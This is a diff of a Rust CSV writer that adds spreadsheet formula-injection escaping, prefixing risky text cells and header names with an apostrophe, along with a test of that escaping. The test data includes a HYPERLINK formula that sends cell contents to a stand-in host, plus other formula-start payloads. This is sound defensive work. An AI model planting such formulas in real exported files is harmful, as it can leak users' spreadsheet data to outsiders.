@@ -1,5 +1,7 @@
-//! Detail batches as CSV bytes, the same bytes as arrow's CSV writer (dates ISO, nulls empty,
-//! fields quoted only when they must be), about three times as fast.
+//! Batches as CSV bytes, the same bytes as arrow's CSV writer (dates ISO, nulls empty, fields
+//! quoted only when they must be), about three times as fast, but for one thing: a text cell a
+//! spreadsheet would take for a formula is prefixed with `'` ([`crate::escape::csv_text`]).
+//! Every CSV hhq writes from Arrow (details, evidence, `hhq sql --format csv`) is written here.
 //!
 //! Why not arrow's writer: at a state's scale the detail is tens of millions of rows, and arrow
 //! formats each cell through a dynamic formatter into a string that the `csv` crate then copies
@@ -35,7 +37,7 @@ pub fn header(batch: &RecordBatch, out: &mut Vec<u8>) {
         if i > 0 {
             out.push(b',');
         }
-        field(name.as_bytes(), out);
+        text_field(name.as_bytes(), out);
     }
     end_record(names.len(), names.iter().all(|n| n.is_empty()), out);
 }
@@ -98,6 +100,21 @@ fn field(bytes: &[u8], out: &mut Vec<u8>) {
     }
 }
 
+/// A text cell: [`field`], after a `'` when a spreadsheet would read it as a formula. Only text
+/// goes through here: a number's sign is not a formula.
+fn text_field(bytes: &[u8], out: &mut Vec<u8>) {
+    match bytes.first() {
+        Some(&b) if crate::escape::formula_start(b) => {
+            // The cell begins with a quote now: only a comma, quote or line break quotes it.
+            let mut cell = Vec::with_capacity(bytes.len() + 1);
+            cell.push(b'\'');
+            cell.extend_from_slice(bytes);
+            field(&cell, out);
+        }
+        _ => field(bytes, out),
+    }
+}
+
 /// A column, downcast once per batch.
 enum Column<'a> {
     Utf8(&'a GenericByteArray<Utf8Type>),
@@ -142,7 +159,7 @@ impl<'a> Column<'a> {
             Column::LargeUtf8(a) => text(*a, row, out),
             Column::Utf8View(a) => {
                 if a.is_valid(row) {
-                    field(a.value(row).as_bytes(), out);
+                    text_field(a.value(row).as_bytes(), out);
                 }
             }
             Column::Date32(a) => {
@@ -172,7 +189,7 @@ impl<'a> Column<'a> {
 
 fn text<T: ByteArrayType<Native = str>>(a: &GenericByteArray<T>, row: usize, out: &mut Vec<u8>) {
     if a.is_valid(row) {
-        field(a.value(row).as_bytes(), out);
+        text_field(a.value(row).as_bytes(), out);
     }
 }
 
@@ -400,6 +417,55 @@ mod tests {
             ),
         ]);
         assert_eq!(ours(std::slice::from_ref(&two)), arrow_bytes(&[two]));
+    }
+
+    #[test]
+    fn text_a_spreadsheet_would_run_is_quoted_and_numbers_are_not() {
+        let ids = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")",
+            "+1",
+            "@SUM(A1:A9)",
+            "-2+3",
+            "\tx",
+            "\rcmd",
+            "M0001",
+        ];
+        let b = batch(vec![
+            (
+                "member_id",
+                Arc::new(StringArray::from(ids.to_vec())) as ArrayRef,
+            ),
+            (
+                "view",
+                Arc::new(StringViewArray::from(ids.to_vec())) as ArrayRef,
+            ),
+            (
+                "n",
+                Arc::new(Int64Array::from(vec![-1, -2, 0, 3, -4, 5, 6])) as ArrayRef,
+            ),
+            (
+                "x",
+                Arc::new(Float64Array::from(vec![
+                    -1.5, 0.0, 1.0, -0.25, 2.0, 3.0, 4.0,
+                ])) as ArrayRef,
+            ),
+            (
+                "=header",
+                Arc::new(Int32Array::from(vec![-7; 7])) as ArrayRef,
+            ),
+        ]);
+        let text = String::from_utf8(ours(&[b])).unwrap();
+        assert_eq!(
+            text,
+            "member_id,view,n,x,'=header\n\
+             \"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"see\"\")\",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"see\"\")\",-1,-1.5,-7\n\
+             '+1,'+1,-2,0.0,-7\n\
+             '@SUM(A1:A9),'@SUM(A1:A9),0,1.0,-7\n\
+             '-2+3,'-2+3,3,-0.25,-7\n\
+             '\tx,'\tx,-4,2.0,-7\n\
+             \"'\rcmd\",\"'\rcmd\",5,3.0,-7\n\
+             M0001,M0001,6,4.0,-7\n"
+        );
     }
 
     #[test]
